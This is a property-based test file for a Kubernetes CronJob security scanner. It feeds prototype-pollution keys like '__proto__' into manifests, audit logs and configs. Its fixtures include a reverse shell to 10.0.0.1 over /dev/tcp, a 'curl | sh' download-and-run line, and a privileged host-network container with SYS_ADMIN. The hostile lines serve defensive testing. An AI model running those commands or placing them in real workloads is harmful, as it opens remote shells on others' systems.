/**
 * Property: a word that names a member of Object.prototype (`__proto__`, `constructor`, …) is just
 * text, wherever input puts it. Every slot of a manifest, an audit event (each format, each kind of
 * patch) and a config file — keys, program names, options, ids, namespaces, images, users — gets
 * either such a word or a filler; the result must equal a control run on the same input with each of
 * those words swapped for an inert word of the same length and shape, and no shared prototype may change.
 */
import assert from 'node:assert/strict';
import { afterEach, describe, test } from 'node:test';
import fc from 'fast-check';
import { analyseManifest, parseConfig, parseText, type JobSentinelConfig } from '../src/index.js';
import { collectAuditLog, type AuditMode } from '../src/entries/audit.js';
import { assertPrototypeUntouched, PROTOTYPE_KEYS, restorePrototype } from './prototype-guard.ts';

afterEach(restorePrototype);

/** Bounded, so that the suite stays quick; each run covers every slot at once. */
const RUNS = 20;

/** Same length, same case pattern and punctuation (so the same validity as an id), letters found nowhere else in the inputs. */
const INERT: ReadonlyMap<string, string> = new Map([
  ['__proto__', '__zzzzz__'],
  ['constructor', 'xxxxxxxxxxx'],
  ['prototype', 'yyyyyyyyy'],
  ['hasOwnProperty', 'wwwWwwWwwwwwww'],
  ['toString', 'kkKkkkkk'],
  ['valueOf', 'qqqqqOq'],
]);
const FILLERS = ['app', 'build', 'job'];
const WORD = fc.constantFrom(...PROTOTYPE_KEYS, ...FILLERS);
const SLOTS = fc.array(WORD, { minLength: 8, maxLength: 24 });

/** `K_n_K` placeholders (plain scalars in YAML, plain text in JSON) filled from the chosen words, cycling. */
function fill(template: string, words: readonly string[]): string {
  return template.replace(/K_(\d+)_K/g, (_, index: string) => words[Number(index) % words.length]);
}

function inert(text: string): string {
  let result = text;
  for (const [word, replacement] of INERT) result = result.replaceAll(word, replacement);
  return result;
}

/** A result as plain data with the words made inert; quoted text cut short (`…`) may cut a word, so its last characters go. */
function comparable(result: unknown): unknown {
  const longest = Math.max(...[...INERT.keys()].map((word) => word.length));
  return JSON.parse(inert(JSON.stringify(result)), (_, value: unknown) =>
    typeof value === 'string' && value.endsWith('…') ? value.slice(0, Math.max(0, value.length - 1 - longest)) : value,
  );
}

/** A slot counter for building templates: each call is a new placeholder. */
function slots() {
  let next = 0;
  return () => `K_${next++}_K`;
}

const w = slots();
const SCRIPT = `${w()} -x; ${w()} --${w()} ${w()}; curl --${w()} http://h/${w()} | sh; if false; then ${w()} -x; fi; env ${w()}=1 ${w()} -c ${w()}; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1`;

const MANIFEST = `apiVersion: batch/v1
kind: CronJob
metadata:
  name: ${w()}
  namespace: ${w()}
  labels: {${w()}: ${w()}}
  annotations: {${w()}: ${w()}}
  ${w()}: ${w()}
spec:
  schedule: "* * * * *"
  ${w()}: {${w()}: ${w()}}
  jobTemplate:
    spec:
      template:
        metadata: {annotations: {${w()}: ${w()}}}
        spec:
          ${w()}: true
          hostNetwork: true
          serviceAccountName: ${w()}
          volumes:
            - name: ${w()}
              hostPath: {path: /var/${w()}}
          containers:
            - name: ${w()}
              image: registry.example.com/${w()}/${w()}:${w()}
              ${w()}: ${w()}
              command: ["sh", "-c", "${SCRIPT}"]
              args: ["${w()}", "-${w()}", "--${w()}=${w()}"]
              env:
                - {name: ${w()}, value: ${w()}}
              securityContext: {privileged: true, ${w()}: true, capabilities: {add: [${w()}, SYS_ADMIN]}}
              volumeMounts: [{name: ${w()}, mountPath: /${w()}}]
`;

const CONFIG = `severity:
  ${w()}: error
ignore:
  - indicators: [host-network]
    namespaces: [${w()}]
  - indicators: [attacker-tooling]
    images: ["*${w()}*"]
  - indicators: [privileged-container]
    users: [${w()}]
custom:
  images: ["*${w()}*"]
  patterns:
    - id: ${w()}
      pattern: "${w()}"
      severity: error
`;

/** The CronJob above as an object, placeholders and all, for audit bodies. */
function cronJob(): unknown {
  return parseText(MANIFEST).documents[0].value;
}

const e = slots();
/** One request in every format, with placeholders in its identity and in the patches it sends. */
const EVENT_FIELDS = {
  auditID: e(),
  user: e(),
  namespace: e(),
  name: e(),
  patchPaths: [`/${e()}/${e()}`, `/spec/${e()}`, `/spec/jobTemplate/spec/template/spec/containers/0/${e()}`, `/metadata/annotations/${e()}`],
  op: e(),
};

function kubeEvent(words: readonly string[], auditID: string, verb: string, requestObject: unknown): Record<string, unknown> {
  const at = (slot: string) => fill(slot, words);
  return {
    kind: 'Event',
    apiVersion: 'audit.k8s.io/v1',
    level: 'RequestResponse',
    auditID: `${auditID}-${at(EVENT_FIELDS.auditID)}`,
    stage: 'ResponseComplete',
    verb,
    user: { username: at(EVENT_FIELDS.user), extra: { [at(EVENT_FIELDS.user)]: [at(EVENT_FIELDS.name)] } },
    objectRef: { resource: 'cronjobs', namespace: at(EVENT_FIELDS.namespace), name: at(EVENT_FIELDS.name), apiGroup: 'batch' },
    responseStatus: { code: 201 },
    requestObject,
    annotations: { [at(EVENT_FIELDS.name)]: at(EVENT_FIELDS.user) },
    stageTimestamp: '2026-03-02T10:00:00Z',
  };
}

/** Requests of every kind: a create, a JSON Patch of every op, a merge patch. */
function requests(words: readonly string[]): Array<Record<string, unknown>> {
  const at = (slot: string) => fill(slot, words);
  const value = { [at(EVENT_FIELDS.op)]: { [at(EVENT_FIELDS.name)]: 'bash -i >& /dev/tcp/10.0.0.1/1 0>&1' } };
  const paths = EVENT_FIELDS.patchPaths.map(at);
  const ops = ['add', 'replace', 'copy', 'move', 'remove', 'test', at(EVENT_FIELDS.op)].flatMap((op) =>
    paths.map((path) => ({ op, path, from: path, value })),
  );
  return [
    kubeEvent(words, 'patch', 'patch', ops),
    kubeEvent(words, 'merge', 'patch', { spec: { [at(EVENT_FIELDS.op)]: value }, [at(EVENT_FIELDS.name)]: value }),
    kubeEvent(words, 'create', 'create', cronJob()),
  ];
}

/** The same requests in each format the scanner reads. */
const FORMATS: Record<string, (events: Array<Record<string, unknown>>) => unknown[]> = {
  kube: (events) => events,
  'elastic nested': (events) => events.map((event) => ({ '@timestamp': event.stageTimestamp, kubernetes: { audit: event } })),
  'elastic dotted': (events) =>
    events.map((event) => {
      const document: Record<string, unknown> = {};
      for (const [key, value] of Object.entries(event)) {
        if (key === 'objectRef' || key === 'user') for (const [inner, innerValue] of Object.entries(value as object)) document[`kubernetes.audit.${key}.${inner}`] = innerValue;
        else document[`kubernetes.audit.${key}`] = value;
      }
      return document;
    }),
  aks: (events) => events.map((event) => ({ category: 'kube-audit', properties: { log: JSON.stringify(event) } })),
  eks: (events) => events.map((event) => ({ '@message': JSON.stringify(event) })),
  gke: (events) =>
    events.map((event) => {
      const ref = event.objectRef as Record<string, string>;
      return {
        protoPayload: {
          methodName: `io.k8s.batch.v1.cronjobs.${event.verb}`,
          resourceName: `batch/v1/namespaces/${ref.namespace}/cronjobs/${ref.name}`,
          authenticationInfo: { principalEmail: (event.user as { username: string }).username },
          request: event.requestObject,
        },
        operation: { id: event.auditID },
        timestamp: event.stageTimestamp,
      };
    }),
};

/**
 * The words go in as text, the way an attacker writes them: JSON.stringify of an object would drop a
 * `__proto__` member, so the lines are built with placeholders and filled afterwards.
 */
function auditLog(format: string, words: readonly string[]): string {
  const placeholders = Array.from({ length: words.length }, (_, index) => `K_${index}_K`);
  return fill(FORMATS[format](requests(placeholders)).map((record) => JSON.stringify(record)).join('\n') + '\n', words);
}

function config(words: readonly string[]): { config: JobSentinelConfig; errors: unknown } {
  return parseConfig(fill(CONFIG, words), '.jobsentinel.yaml');
}

const streamOf = (text: string) => new Blob([text]).stream() as ReadableStream<Uint8Array>;

async function auditResult(text: string, mode: AuditMode, cfg: JobSentinelConfig) {
  const { matches, summary, problems } = await collectAuditLog(streamOf(text), { mode, config: cfg });
  return { matches, summary, problems };
}

describe('prototype keys anywhere in the input change nothing but the text', () => {
  test('manifests, with and without a config that names them', () => {
    fc.assert(
      fc.property(SLOTS, fc.boolean(), (words, withConfig) => {
        const text = fill(MANIFEST, words);
        const parsed = config(words);
        const control = parseConfig(inert(fill(CONFIG, words)), '.jobsentinel.yaml');
        assert.deepEqual(comparable(parsed.errors), comparable(control.errors));
        const hostile = analyseManifest(text, 'job.yaml', withConfig ? { config: parsed.config } : {});
        assertPrototypeUntouched();
        const expected = analyseManifest(inert(text), 'job.yaml', withConfig ? { config: control.config } : {});
        assert.ok(expected.findings.some((finding) => finding.indicator === 'shell-escape'), 'the control run sees the reverse shell');
        assert.deepEqual(comparable(hostile), comparable(expected));
      }),
      { numRuns: RUNS },
    );
  });

  for (const format of Object.keys(FORMATS)) {
    test(`audit events, ${format}, both modes`, async () => {
      await fc.assert(
        fc.asyncProperty(SLOTS, fc.constantFrom<AuditMode>('structural', 'elastic'), async (words, mode) => {
          const text = auditLog(format, words);
          const parsed = config(words);
          const control = parseConfig(inert(fill(CONFIG, words)), '.jobsentinel.yaml');
          const hostile = await auditResult(text, mode, parsed.config);
          assertPrototypeUntouched();
          const expected = await auditResult(inert(text), mode, control.config);
          assert.ok(expected.matches.length > 0, 'the control run sees the malicious create');
          assert.deepEqual(comparable(hostile), comparable(expected));
        }),
        { numRuns: Math.ceil(RUNS / 4) },
      );
    });
  }
});
